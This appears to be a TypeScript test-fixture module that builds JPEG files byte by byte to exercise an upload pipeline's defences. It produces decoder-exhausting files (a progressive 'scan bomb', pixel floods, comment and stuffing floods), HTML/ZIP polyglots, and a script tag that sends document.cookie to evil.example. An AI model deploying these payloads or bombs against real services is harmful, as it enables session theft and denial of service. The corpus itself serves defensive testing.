import { encodeJpeg, insertAfterSoi, quadrants, segment, withExif } from "./jpeg-fixtures.ts";

// Hostile uploads, written byte by byte: a small JPEG writer that lays out
// any frame and any scan script with flat-coloured pixels, and the corpus of
// attacks built on it (ADR 0008 "Hostile uploads"). Flat blocks keep the
// entropy-coded data trivial: a DC difference on each component's first
// block, end-of-block everywhere else, so a scan of any number of blocks
// costs a few bytes, exactly as an attacker's would.

export interface SyntheticComponent {
  id: number;
  h: number;
  v: number;
  /** The flat sample value this component decodes to (0-255). */
  level: number;
}

export interface SyntheticScan {
  /** Component ids, in frame order. */
  ids: readonly number[];
  ss: number;
  se: number;
  ah: number;
  al: number;
}

export interface SyntheticFrame {
  /** SOF0 baseline, SOF1 extended, SOF2 progressive. */
  marker: number;
  precision?: number;
  width: number;
  height: number;
  components: readonly SyntheticComponent[];
  scans: readonly SyntheticScan[];
  /** The transform of an Adobe APP14 segment (0 CMYK, 1 YCbCr, 2 YCCK), or none. */
  adobeTransform?: number;
}

export const SOF_BASELINE = 0xc0;
export const SOF_EXTENDED = 0xc1;
export const SOF_PROGRESSIVE = 0xc2;

export const GREY = (level = 128): SyntheticComponent => ({ id: 1, h: 1, v: 1, level });

/** The sequential scan of all components, as a baseline encoder writes it. */
export function sequentialScan(ids: readonly number[]): SyntheticScan {
  return { ids, ss: 0, se: 63, ah: 0, al: 0 };
}

export const dcScan = (ids: readonly number[]): SyntheticScan => ({ ids, ss: 0, se: 0, ah: 0, al: 0 });
export const acScan = (id: number, ss = 1, se = 63): SyntheticScan => ({ ids: [id], ss, se, ah: 0, al: 0 });

/**
 * A complete JPEG: SOI, optional Adobe APP14, one quantisation table, the
 * frame, two Huffman tables, the scans and EOI. The quantisation table's DC
 * step is 8, so a DC coefficient of level-128 decodes to `level` exactly.
 */
export function syntheticJpeg(frame: SyntheticFrame): Uint8Array {
  const parts: Uint8Array[] = [new Uint8Array([0xff, 0xd8])];
  if (frame.adobeTransform !== undefined) {
    parts.push(segment(0xee, new Uint8Array([...ascii("Adobe"), 0x00, 0x64, 0, 0, 0, 0, frame.adobeTransform])));
  }
  parts.push(segment(0xdb, new Uint8Array([0x00, 8, ...new Array<number>(63).fill(1)])));
  const sof = [frame.precision ?? 8, frame.height >> 8, frame.height & 0xff, frame.width >> 8, frame.width & 0xff, frame.components.length];
  for (const c of frame.components) sof.push(c.id, (c.h << 4) | c.v, 0);
  parts.push(segment(frame.marker, new Uint8Array(sof)));
  parts.push(segment(0xc4, huffmanTable(0x00, DC_SYMBOLS)), segment(0xc4, huffmanTable(0x10, AC_SYMBOLS)));
  for (const scan of frame.scans) {
    parts.push(segment(0xda, new Uint8Array([scan.ids.length, ...scan.ids.flatMap((id) => [id, 0x00]), scan.ss, scan.se, (scan.ah << 4) | scan.al])));
    parts.push(scanData(frame, scan));
  }
  parts.push(new Uint8Array([0xff, 0xd9]));
  return concat(parts);
}

// Both tables give every symbol a 4-bit code, in order, so symbol i is code i.
// DC: the size categories 0-11. AC: EOB0-EOB14 (0x00 is also baseline's EOB).
const DC_SYMBOLS = Array.from({ length: 12 }, (_, i) => i);
const AC_SYMBOLS = Array.from({ length: 15 }, (_, r) => r << 4);

function huffmanTable(classAndId: number, symbols: readonly number[]): Uint8Array {
  const counts = new Array<number>(16).fill(0);
  counts[3] = symbols.length;
  return new Uint8Array([classAndId, ...counts, ...symbols]);
}

interface Geometry {
  mcusPerLine: number;
  mcusPerColumn: number;
  maxH: number;
  maxV: number;
}

function geometry(frame: SyntheticFrame): Geometry {
  const maxH = Math.max(...frame.components.map((c) => c.h));
  const maxV = Math.max(...frame.components.map((c) => c.v));
  return { maxH, maxV, mcusPerLine: Math.ceil(frame.width / 8 / maxH), mcusPerColumn: Math.ceil(frame.height / 8 / maxV) };
}

function scanComponents(frame: SyntheticFrame, scan: SyntheticScan): SyntheticComponent[] {
  return scan.ids.map((id) => frame.components.find((c) => c.id === id) ?? GREY());
}

/** The blocks a scan codes: one component's blocks inside the image, or whole MCUs when interleaved (T.81 A.2). */
function scanBlockCount(frame: SyntheticFrame, scan: SyntheticScan): number {
  const g = geometry(frame);
  const inScan = scanComponents(frame, scan);
  const only = inScan.length === 1 ? inScan[0] : undefined;
  if (only) return Math.ceil((Math.ceil(frame.width / 8) * only.h) / g.maxH) * Math.ceil((Math.ceil(frame.height / 8) * only.v) / g.maxV);
  return g.mcusPerLine * g.mcusPerColumn * inScan.reduce((sum, c) => sum + c.h * c.v, 0);
}

/** The component of each block, in coding order. */
function* blockOrder(frame: SyntheticFrame, scan: SyntheticScan): Generator<SyntheticComponent> {
  const inScan = scanComponents(frame, scan);
  const mcu = inScan.flatMap((c) => new Array<SyntheticComponent>(c.h * c.v).fill(c));
  const total = scanBlockCount(frame, scan);
  for (let i = 0; i < total; i++) yield mcu[i % mcu.length] ?? GREY();
}

function scanData(frame: SyntheticFrame, scan: SyntheticScan): Uint8Array {
  const bits = new BitWriter();
  if (frame.marker !== SOF_PROGRESSIVE) {
    const coded = new Set<number>();
    for (const c of blockOrder(frame, scan)) {
      writeDcDifference(bits, coded.has(c.id) ? 0 : c.level - 128);
      coded.add(c.id);
      bits.write(0, 4); // EOB
    }
  } else if (scan.ss === 0 && scan.ah === 0) {
    const coded = new Set<number>();
    for (const c of blockOrder(frame, scan)) {
      writeDcDifference(bits, coded.has(c.id) ? 0 : (c.level - 128) >> scan.al);
      coded.add(c.id);
    }
  } else if (scan.ss === 0) {
    // A DC refinement: one raw bit per block, bit al of its coefficient.
    for (const c of blockOrder(frame, scan)) bits.write(((c.level - 128) >> scan.al) & 1, 1);
  } else {
    // Flat blocks have no AC coefficients: end-of-band runs cover them all.
    writeEndOfBandRuns(bits, scanBlockCount(frame, scan));
  }
  return bits.finish();
}

function writeDcDifference(bits: BitWriter, difference: number): void {
  const magnitude = Math.abs(difference);
  const size = magnitude === 0 ? 0 : Math.floor(Math.log2(magnitude)) + 1;
  bits.write(size, 4);
  if (size > 0) bits.write(difference > 0 ? difference : difference + (1 << size) - 1, size);
}

/** EOBn symbols: one covers 2^n plus its n extra bits' worth of blocks, at most 32,767. */
function writeEndOfBandRuns(bits: BitWriter, blocks: number): void {
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, 32_767);
    const r = Math.floor(Math.log2(run));
    bits.write(r, 4);
    bits.write(run - 2 ** r, r);
    left -= run;
  }
}

/** MSB-first bits with JPEG byte stuffing (FF is followed by 00) and 1-padding. */
class BitWriter {
  private bytes: number[] = [];
  private current = 0;
  private count = 0;

  write(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) {
      this.current = (this.current << 1) | ((value >> i) & 1);
      this.count++;
      if (this.count === 8) this.flush();
    }
  }

  finish(): Uint8Array {
    if (this.count > 0) this.write(0xff, 8 - this.count);
    return new Uint8Array(this.bytes);
  }

  private flush(): void {
    this.bytes.push(this.current);
    if (this.current === 0xff) this.bytes.push(0x00);
    this.current = 0;
    this.count = 0;
  }
}

const ascii = (text: string) => Array.from(text, (c) => c.charCodeAt(0));

export function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

// The corpus.

/** A refinement of the whole AC band by one bit: the costliest scan for jpeg-js, 63 steps in every block. */
const AC_REFINEMENT: SyntheticScan = { ids: [1], ss: 1, se: 63, ah: 1, al: 0 };

/**
 * The scan bomb: a progressive grey frame whose script keeps every rule of
 * T.81 scan by scan (a DC scan, the AC band at half precision, then its
 * refinement) but repeats the refinement: 15 bytes of file, a walk over
 * every block of the image for the decoder, again and again.
 */
export function scanBomb(refinements: number, size = 2000): Uint8Array {
  return syntheticJpeg({
    marker: SOF_PROGRESSIVE,
    width: size,
    height: size,
    components: [GREY(140)],
    scans: [dcScan([1]), { ids: [1], ss: 1, se: 63, ah: 0, al: 1 }, ...new Array<SyntheticScan>(refinements).fill(AC_REFINEMENT)],
  });
}

/**
 * The pixel flood: a frame of huge dimensions in a tiny, complete file
 * (one end-of-band run per 32,767 blocks codes the whole image).
 */
export function pixelFlood(width: number, height: number): Uint8Array {
  return syntheticJpeg({ marker: SOF_PROGRESSIVE, width, height, components: [GREY()], scans: [acScan(1)] });
}

/** One flat 8x8 block: the smallest photo, to pad with what costs the parsers. */
function tinyPhoto(): Uint8Array {
  return syntheticJpeg({ marker: SOF_BASELINE, width: 8, height: 8, components: [GREY(200)], scans: [sequentialScan([1])] });
}

/**
 * The costliest file to walk: one 8x8 block whose scan is followed by
 * stuffed bytes (0xFF 0x00, each a data byte 0xFF) up to `size` bytes, a
 * marker prefix every other byte for the header check to step over.
 */
export function stuffedScan(size: number): Uint8Array {
  const photo = tinyPhoto();
  const stuffing = new Uint8Array(size - photo.length);
  for (let i = 0; i + 1 < stuffing.length; i += 2) stuffing[i] = 0xff;
  return concat([photo.subarray(0, -2), stuffing, photo.subarray(-2)]);
}

/**
 * One 8x8 block and `count` empty comment segments (COM, 4 bytes each),
 * before the frame or after the scan. Each costs jpeg-js an allocation;
 * the 2.6 million that fit in 10 MB, seconds.
 */
export function commentFlood(count: number, at: "header" | "scans"): Uint8Array {
  const photo = tinyPhoto();
  const comments = new Uint8Array(count * 4);
  for (let i = 0; i < comments.length; i += 4) comments.set([0xff, 0xfe, 0x00, 0x02], i);
  const split = at === "header" ? 2 : photo.length - 2;
  return concat([photo.subarray(0, split), comments, photo.subarray(split)]);
}

/** One 8x8 block and `count` fill bytes (0xFF, which may precede any marker) before its EOI. */
export function fillBytes(count: number): Uint8Array {
  const photo = tinyPhoto();
  return concat([photo.subarray(0, -2), new Uint8Array(count).fill(0xff), photo.subarray(-2)]);
}

/** A real photo (jpeg-js, 4:4:4 baseline) to build polyglots and EXIF variants on. */
export function innocentPhoto(): Uint8Array {
  return encodeJpeg(96, 128, quadrants(96, 128));
}

export const SCRIPT = "<script>fetch('https://evil.example/'+document.cookie)</script>";
const HTML_PAGE = `<!DOCTYPE html><html><body>${SCRIPT}</body></html>`;

/** A JPEG with an HTML page after its end (EOI): a browser sniffing the bytes could run it. */
export function jpegThenHtml(): Uint8Array {
  return concat([innocentPhoto(), new TextEncoder().encode(HTML_PAGE)]);
}

/** A JPEG that is also a ZIP archive holding an HTML page (ZIP readers start from the end). */
export function jpegThenZip(): Uint8Array {
  return concat([innocentPhoto(), storedZip("index.html", new TextEncoder().encode(HTML_PAGE))]);
}

/** An HTML page followed by a JPEG: a file that opens as a page, and whose JPEG starts late. */
export function htmlThenJpeg(): Uint8Array {
  return concat([new TextEncoder().encode(HTML_PAGE), innocentPhoto()]);
}

/** A script inside a comment segment (COM), where a naive pipeline would keep it. */
export function scriptInComment(): Uint8Array {
  return insertAfterSoi(innocentPhoto(), segment(0xfe, new TextEncoder().encode(SCRIPT)));
}

/** A phone photo as it leaves the camera: EXIF with the GPS location. */
export function photoWithGps(): Uint8Array {
  return withExif(innocentPhoto(), { orientation: 1, gps: true });
}

/** A photo cut off halfway, as a dropped connection or a hostile client sends it. */
export function truncatedPhoto(): Uint8Array {
  const photo = innocentPhoto();
  return photo.subarray(0, Math.floor(photo.length / 2));
}

/**
 * A CMYK JPEG as Photoshop and scanners write it: 4 components, an Adobe
 * APP14 segment, inverted ink values. These inks (no cyan, full magenta and
 * yellow, no black) are red.
 */
export function cmykRed(adobe = true): Uint8Array {
  const ink = (id: number, amount: number): SyntheticComponent => ({ id, h: 1, v: 1, level: 255 - amount });
  return syntheticJpeg({
    marker: SOF_BASELINE,
    width: 48,
    height: 32,
    components: [ink(1, 0), ink(2, 255), ink(3, 255), ink(4, 0)],
    scans: [sequentialScan([1, 2, 3, 4])],
    ...(adobe ? { adobeTransform: 0 } : {}),
  });
}

/**
 * A 12-megapixel photo's frame as phone cameras write it (4000x3000,
 * baseline, 4:2:0, one interleaved scan), or progressive as an editor would
 * save it, in flat colour: a few KB that decode to 48 MB of pixels.
 */
export function twelveMegapixels(marker = SOF_BASELINE): Uint8Array {
  const components: SyntheticComponent[] = [
    { id: 1, h: 2, v: 2, level: 81 },
    { id: 2, h: 1, v: 1, level: 90 },
    { id: 3, h: 1, v: 1, level: 240 },
  ];
  const scans = marker === SOF_PROGRESSIVE ? [dcScan([1, 2, 3]), acScan(1), acScan(2), acScan(3)] : [sequentialScan([1, 2, 3])];
  return syntheticJpeg({ marker, width: 4000, height: 3000, components, scans });
}

/**
 * A photo whose frame names a quantisation table the file does not define:
 * every marker and scan header is in order, so only libjpeg finds out, and
 * gives up (a missing Huffman table it would fill in with the standard one).
 */
export function undefinedQuantisationTable(): Uint8Array {
  const bytes = syntheticJpeg({ marker: SOF_BASELINE, width: 16, height: 16, components: [GREY()], scans: [sequentialScan([1])] });
  const sof = bytes.findIndex((byte, i) => byte === 0xff && bytes[i + 1] === SOF_BASELINE);
  bytes[sof + 12] = 1; // the component's table: 1, where the one DQT defines table 0
  return bytes;
}

/** A frame of 12- or 16-bit samples, which cameras' raw pipelines and medical imaging write. */
export function highPrecision(marker: number, precision: number): Uint8Array {
  return syntheticJpeg({ marker, precision, width: 32, height: 32, components: [GREY()], scans: [marker === SOF_PROGRESSIVE ? dcScan([1]) : sequentialScan([1])] });
}

/** A ZIP archive with one stored (uncompressed) file: local header, data, central directory, end record. */
function storedZip(name: string, data: Uint8Array): Uint8Array {
  const nameBytes = new TextEncoder().encode(name);
  const crc = crc32(data);
  const u16 = (v: number) => [v & 0xff, v >> 8];
  const u32 = (v: number) => [v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff, v >>> 24];
  const common = [...u16(20), ...u16(0), ...u16(0), ...u16(0), ...u16(0), ...u32(crc), ...u32(data.length), ...u32(data.length), ...u16(nameBytes.length), ...u16(0)];
  const local = new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...common, ...nameBytes]);
  const central = new Uint8Array([0x50, 0x4b, 0x01, 0x02, ...u16(20), ...common, ...u16(0), ...u16(0), ...u16(0), ...u32(0), ...u32(0), ...nameBytes]);
  const centralAt = local.length + data.length;
  const end = new Uint8Array([0x50, 0x4b, 0x05, 0x06, ...u16(0), ...u16(0), ...u16(1), ...u16(1), ...u32(central.length), ...u32(centralAt), ...u16(0)]);
  return concat([local, data, central, end]);
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}
